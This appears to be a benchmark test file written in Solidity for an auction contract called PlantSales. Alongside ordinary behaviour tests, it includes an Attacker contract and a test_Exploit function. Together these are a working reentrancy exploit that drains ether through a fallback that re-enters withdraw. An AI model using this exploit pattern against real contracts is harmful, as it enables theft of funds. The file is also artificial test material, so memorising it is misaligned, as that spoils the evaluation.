pragma solidity 0.4.26;

import "./PlantSales.sol";

// assay-canary-6834543b-134d-4f03-9342-ca0a26da07c4

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert() external;
    function prank(address sender) external;
    function warp(uint256 time) external;
}

// A wallet that takes ether only when it wants to.
contract Wallet {
    address private keeper = msg.sender;
    bool private shut;

    function () external payable {
        require(!shut || msg.value == 0);
    }

    function bid(PlantSales sales, uint id, uint amount) external {
        require(msg.sender == keeper);
        sales.bid.value(amount)(id);
    }

    function lock(bool s) external {
        require(msg.sender == keeper);
        shut = s;
    }

    function collect(PlantSales sales) external {
        require(msg.sender == keeper);
        shut = false;
        sales.collect();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint private constant START = 1700000000;

    PlantSales private sales;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        sales = new PlantSales();
        vm.prank(CAT);
        sales.list(5 ether, 10);
        vm.prank(CAT);
        sales.list(1 ether, 10);
        vm.deal(ANA, 100 ether);
        vm.deal(BEN, 100 ether);
        vm.prank(ANA);
        sales.bid.value(30 ether)(0);
        mallory = new Attacker(sales);
        vm.deal(address(mallory), 21 ether);
    }

    function test_Regular() public {
        require(sales.count() == 2 && sales.house() == address(this));
        vm.prank(BEN);
        sales.bid.value(31.5 ether)(0);
        require(ANA.balance == 100 ether && sales.owed(ANA) == 0);
        vm.prank(ANA);
        sales.bid.value(1 ether)(1);
        vm.prank(ANA);
        sales.withdraw(1);
        require(ANA.balance == 100 ether);

        Wallet wallet = new Wallet();
        vm.deal(address(wallet), 4 ether);
        wallet.bid(sales, 1, 4 ether);
        wallet.lock(true);
        vm.prank(ANA);
        sales.bid.value(4.2 ether)(1);
        require(sales.owed(address(wallet)) == 4 ether && address(wallet).balance == 0);
        wallet.collect(sales);
        require(address(wallet).balance == 4 ether);

        vm.warp(START + 10 days);
        sales.release(0, true);
        sales.release(1, false);
        require(sales.owed(CAT) == 31.5 ether && sales.owed(ANA) == 4.2 ether);
        vm.prank(CAT);
        sales.collect();
        vm.prank(ANA);
        sales.collect();
        require(CAT.balance == 31.5 ether && ANA.balance == 100 ether && address(sales).balance == 0);
        (,,, address leader, uint offer, bool done) = sales.lots(0);
        require(leader == BEN && offer == 31.5 ether && done);
    }

    function test_RefusesListings() public {
        vm.expectRevert();
        sales.list(0, 10);
        vm.expectRevert();
        sales.list(1, 1);
        vm.expectRevert();
        sales.list(1, 61);
    }

    function test_RefusesBids() public {
        vm.prank(BEN);
        vm.expectRevert();
        sales.bid.value(1 ether - 1)(1);
        vm.prank(BEN);
        vm.expectRevert();
        sales.bid.value(31.5 ether - 1)(0);
        vm.warp(START + 10 days);
        vm.prank(BEN);
        vm.expectRevert();
        sales.bid.value(40 ether)(0);
    }

    function test_RefusesWithdrawals() public {
        vm.prank(BEN);
        vm.expectRevert();
        sales.withdraw(0);
        vm.warp(START + 9 days);
        vm.prank(ANA);
        vm.expectRevert();
        sales.withdraw(0);
    }

    function test_RefusesReleases() public {
        vm.warp(START + 10 days - 1);
        vm.expectRevert();
        sales.release(0, true);
        vm.warp(START + 10 days);
        vm.prank(CAT);
        vm.expectRevert();
        sales.release(0, true);
        sales.release(0, true);
        vm.expectRevert();
        sales.release(0, true);
    }

    function test_RefusesCollections() public {
        vm.prank(ANA);
        vm.expectRevert();
        sales.collect();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 51 ether);
    }

    function target() public view returns (address) {
        return address(sales);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PlantSales private sales;
    bool private again;

    constructor(PlantSales _sales) public {
        sales = _sales;
    }

    function () external payable {
        if (again) {
            again = false;
            sales.withdraw(1);
        }
    }

    function run() external {
        for (uint i = 0; i < 3; i++) {
            sales.bid.value(10 ether)(1);
            again = true;
            sales.bid.value(10.5 ether)(1);
            again = false;
            sales.withdraw(1);
        }
    }
}
